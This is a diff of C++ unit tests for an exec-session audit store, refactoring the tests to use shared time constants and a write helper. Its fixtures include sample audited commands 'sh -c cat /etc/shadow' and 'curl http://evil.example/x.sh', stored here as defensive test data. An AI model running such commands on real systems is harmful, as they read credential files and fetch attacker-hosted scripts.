@@ -17,8 +17,9 @@ using namespace execaudit::storage;
 
 namespace {
 
-constexpr int64_t kSecond = 1'000'000'000;
-constexpr int64_t kT0 = 1'730'204'504'189'258'000;  // 2024-10-29T12:21:44.189258Z
+using execaudit::testing::kSecondNs;
+using execaudit::testing::kT0Ns;  // 2024-10-29T12:21:44.189258Z
+using execaudit::testing::write_ops;
 
 SessionRecord session(const std::string& id, int64_t start, const std::string& ns, const std::string& pod,
                       std::vector<std::string> command) {
@@ -30,25 +31,20 @@ SessionRecord session(const std::string& id, int64_t start, const std::string& n
 
 class StoreTest : public ::testing::Test {
 protected:
-    void write(std::vector<WriteOp> ops) {
-        StoreWriter writer(Database::open(path_, Database::Mode::read_write), {});
-        for (auto& op : ops) writer.submit(std::move(op));
-        writer.flush();
-    }
     execaudit::testing::TempDir dir_;
     std::string path_ = dir_.file("sessions.db");
 };
 
 TEST_F(StoreTest, RoundTrip) {
-    auto a = session("aaaa000000000001", kT0, "shop", "web", {"/bin/bash"});
+    auto a = session("aaaa000000000001", kT0Ns, "shop", "web", {"/bin/bash"});
     a.status = "ended";
-    a.end_ns = kT0 + 5 * kSecond;
+    a.end_ns = kT0Ns + 5 * kSecondNs;
     a.exit_code = 3;
     a.output_bytes = 11;
     CommandRecord c;
     c.session_id = a.id;
     c.seq = 0;
-    c.time_ns = kT0;
+    c.time_ns = kT0Ns;
     c.argv = {"cat", std::string("\xff\xfe", 2), ""};  // raw bytes, an empty argument
     c.filename = "/bin/cat";
     c.retval = -2;
@@ -62,7 +58,7 @@ TEST_F(StoreTest, RoundTrip) {
     chunk.frames = enc.frames();
     chunk.output_bytes = enc.output_bytes();
     chunk.frames_data = enc.take();
-    write({WriteSession{a}, WriteCommand{c}, WriteCommand{lost_result}, WriteChunk{chunk}});
+    write_ops(path_, {WriteSession{a}, WriteCommand{c}, WriteCommand{lost_result}, WriteChunk{chunk}});
 
     auto db = Database::open(path_, Database::Mode::read_only);
     SessionStore store(db);
@@ -70,7 +66,7 @@ TEST_F(StoreTest, RoundTrip) {
     ASSERT_TRUE(found) << found.error();
     EXPECT_EQ(found->status, "ended");
     EXPECT_EQ(found->exit_code, 3);
-    EXPECT_EQ(found->end_ns, kT0 + 5 * kSecond);
+    EXPECT_EQ(found->end_ns, kT0Ns + 5 * kSecondNs);
     EXPECT_EQ(found->command, std::vector<std::string>{"/bin/bash"});
     auto cmds = store.commands(a.id);
     ASSERT_EQ(cmds.size(), 2u);
@@ -85,15 +81,15 @@ TEST_F(StoreTest, RoundTrip) {
 }
 
 TEST_F(StoreTest, UpdatesKeepOneRowAndNeverTouchAttribution) {
-    auto a = session("bbbb000000000001", kT0, "shop", "web", {"sh"});
-    write({WriteSession{a}});
+    auto a = session("bbbb000000000001", kT0Ns, "shop", "web", {"sh"});
+    write_ops(path_, {WriteSession{a}});
     {
         auto db = Database::open(path_, Database::Mode::read_write);
         db.exec("UPDATE sessions SET attribution = 'audit', user = 'alice'");
     }
     a.output_bytes = 99;
     a.status = "ended";
-    write({WriteSession{a}});
+    write_ops(path_, {WriteSession{a}});
     auto db = Database::open(path_, Database::Mode::read_only);
     SessionStore store(db);
     auto all = store.list({});
@@ -104,16 +100,16 @@ TEST_F(StoreTest, UpdatesKeepOneRowAndNeverTouchAttribution) {
 }
 
 TEST_F(StoreTest, FiltersAndOrder) {
-    auto old = session("cccc000000000001", kT0, "shop", "web", {"/bin/bash"});
-    old.end_ns = kT0 + kSecond;
-    auto mid = session("cccc000000000002", kT0 + 100 * kSecond, "pay", "api", {"sh", "-c", "cat /etc/shadow"});
-    mid.end_ns = kT0 + 200 * kSecond;
-    auto open = session("cccc000000000003", kT0 + 300 * kSecond, "shop", "db", {"psql"});
+    auto old = session("cccc000000000001", kT0Ns, "shop", "web", {"/bin/bash"});
+    old.end_ns = kT0Ns + kSecondNs;
+    auto mid = session("cccc000000000002", kT0Ns + 100 * kSecondNs, "pay", "api", {"sh", "-c", "cat /etc/shadow"});
+    mid.end_ns = kT0Ns + 200 * kSecondNs;
+    auto open = session("cccc000000000003", kT0Ns + 300 * kSecondNs, "shop", "db", {"psql"});
     CommandRecord c;
     c.session_id = old.id;
     c.argv = {"curl", "http://evil.example/x.sh"};
     c.retval = 0;
-    write({WriteSession{old}, WriteSession{mid}, WriteSession{open}, WriteCommand{c}});
+    write_ops(path_, {WriteSession{old}, WriteSession{mid}, WriteSession{open}, WriteCommand{c}});
     Database::open(path_, Database::Mode::read_write)
         .exec("UPDATE sessions SET attribution = 'unattributed' WHERE id = 'cccc000000000003'");
     auto db = Database::open(path_, Database::Mode::read_only);
@@ -131,14 +127,14 @@ TEST_F(StoreTest, FiltersAndOrder) {
     EXPECT_EQ(ids({.command = "%"}), std::vector<std::string>{});  // LIKE wildcards are literal
     EXPECT_EQ(ids({.unattributed_only = true}), std::vector<std::string>{"0003"});
     // since: still running at or after; until: started before
-    EXPECT_EQ(ids({.since_ns = kT0 + 150 * kSecond}), (std::vector<std::string>{"0003", "0002"}));
-    EXPECT_EQ(ids({.until_ns = kT0 + 100 * kSecond}), std::vector<std::string>{"0001"});
+    EXPECT_EQ(ids({.since_ns = kT0Ns + 150 * kSecondNs}), (std::vector<std::string>{"0003", "0002"}));
+    EXPECT_EQ(ids({.until_ns = kT0Ns + 100 * kSecondNs}), std::vector<std::string>{"0001"});
     EXPECT_EQ(ids({.limit = 1}), std::vector<std::string>{"0003"});
 }
 
 TEST_F(StoreTest, FindExplainsItself) {
-    write({WriteSession{session("dddd000000000001", kT0, "a", "b", {"x"})},
-           WriteSession{session("dddd000000000002", kT0, "a", "b", {"x"})}});
+    write_ops(path_, {WriteSession{session("dddd000000000001", kT0Ns, "a", "b", {"x"})},
+           WriteSession{session("dddd000000000002", kT0Ns, "a", "b", {"x"})}});
     auto db = Database::open(path_, Database::Mode::read_only);
     SessionStore store(db);
     EXPECT_NE(store.find("dddd").error().find("ambiguous"), std::string::npos);
@@ -149,20 +145,20 @@ TEST_F(StoreTest, FindExplainsItself) {
 }
 
 TEST_F(StoreTest, AbandonedSessionsBecomeInterrupted) {
-    auto a = session("ffff000000000001", kT0, "a", "b", {"x"});
-    a.last_activity_ns = kT0 + 7 * kSecond;
-    write({WriteSession{a}});
+    auto a = session("ffff000000000001", kT0Ns, "a", "b", {"x"});
+    a.last_activity_ns = kT0Ns + 7 * kSecondNs;
+    write_ops(path_, {WriteSession{a}});
     auto db = Database::open(path_, Database::Mode::read_write);
     EXPECT_EQ(close_abandoned_sessions(db), 1);
     SessionStore store(db);
     auto s = store.find(a.id);
     ASSERT_TRUE(s);
     EXPECT_EQ(s->status, "interrupted");
-    EXPECT_EQ(s->end_ns, kT0 + 7 * kSecond);
+    EXPECT_EQ(s->end_ns, kT0Ns + 7 * kSecondNs);
 }
 
 TEST_F(StoreTest, FileIsPrivateAndVersioned) {
-    write({});
+    write_ops(path_, {});
     struct stat st {};
     ASSERT_EQ(stat(path_.c_str(), &st), 0);
     EXPECT_EQ(st.st_mode & 0777, 0600u);
